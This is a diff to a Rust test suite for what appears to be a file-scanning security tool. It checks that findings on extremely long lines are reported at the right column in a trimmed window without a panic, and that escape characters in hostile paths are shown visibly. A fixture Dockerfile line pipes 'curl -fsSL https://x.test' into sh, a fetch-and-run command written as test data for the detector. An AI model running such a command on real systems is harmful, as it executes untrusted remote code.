@@ -367,7 +367,7 @@ fn extremely_long_lines() {
     put(
         dir.path(),
         "Dockerfile",
-        format!("FROM alpine:3.21\nRUN echo {long}\nUSER root\n"),
+        format!("FROM alpine:3.21\nRUN echo {long} && curl -fsSL https://x.test | sh\nUSER root\n"),
     );
     put(
         dir.path(),
@@ -405,6 +405,25 @@ fn extremely_long_lines() {
             "{expected:?} in {found:?}"
         );
     }
+
+    // People get a window of a long line around the finding, at its real line and column,
+    // not megabytes of it (nor a panic: a terminal frame cannot be padded that far).
+    let out = run(dir.path(), &["-f", "human", "--fail-on", "never"]);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!stderr.contains("panicked"), "{stderr}");
+    assert_eq!(out.status.code(), Some(0), "{stderr}");
+    let human = String::from_utf8(out.stdout).unwrap();
+    assert!(human.len() < 64 * 1024, "{} bytes", human.len());
+    let column = "RUN echo ".len() + long.len() + " && ".len() + 1;
+    assert!(
+        human.contains(&format!("Dockerfile:2:{column}]")),
+        "{human}"
+    );
+    assert!(human.contains("...aaaa"), "{human}");
+    assert!(
+        human.contains("&& curl -fsSL https://x.test | sh"),
+        "{human}"
+    );
 }
 
 #[test]
@@ -794,7 +813,9 @@ fn hostile_paths_in_every_output_format() {
             percent_decode(file.strip_prefix("file=").unwrap())
         })
         .collect();
-    assert_eq!(sorted(files), expected);
+    // A terminal shows the log: ESC is written as a visible escape.
+    let visible = expected.iter().map(|p| p.replace('\u{1b}', "\\u{1b}"));
+    assert_eq!(sorted(files), sorted(visible.collect()));
 
     let junit = output("junit");
     let values = check_xml(&junit);
